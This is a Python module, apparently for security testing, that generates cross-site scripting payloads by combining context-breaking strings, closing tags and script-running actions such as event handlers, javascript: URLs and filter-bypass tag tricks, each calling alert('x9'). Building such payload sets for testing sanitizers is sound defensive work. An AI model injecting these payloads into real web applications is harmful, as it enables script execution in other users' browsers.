"""Attempts to run a script, made of where they break out of and what they then do."""

from itertools import product

MARK = "x9"
_RUN = f"alert('{MARK}')"
_ENDINGS = [
    "",
    '"',
    "'",
    "`",
    ">",
    '">',
    "'>",
    "-->",
    "]]>",
    "*/",
    '\\"',
    "&quot;>",
    "%22%3E",
    "&#10;",
    "{{",
    "</p>",
    "</bdi>",
]
_CLOSINGS = [
    "",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</select>",
    "</svg>",
    "</template>",
]
_ACTIONS = [
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script src=data:text/javascript,{run}></script>",
    "<img src=x onerror={run}>",
    "<img/src=x/onerror={run}//",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<math><mtext></p><img src=x onerror={run}>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<details open ontoggle={run}>x",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<body onload={run}>",
    "<a href=javascript:{run}>x</a>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=javascript:{run}//>",
    "<link rel=stylesheet href=data:text/css,x>",
    "<style>@import 'data:text/css,x'</style>",
    " onmouseover={run} autofocus onfocus={run} x=",
    " style=animation-name:x onanimationstart={run} ",
    "javascript:{run}",
    "[x](javascript:{run})",
    "![x](x\" onerror=\"{run})",
    "<javascript:{run}>",
]  # fmt: skip


def payloads(number: int) -> list[str]:
    """Give so many, spread over all contexts and actions, each short enough for a name."""
    made = [
        ending + closing + action.format(run=_RUN) for ending, closing, action in product(_ENDINGS, _CLOSINGS, _ACTIONS)
    ]
    return [made[place * len(made) // number] for place in range(number)]
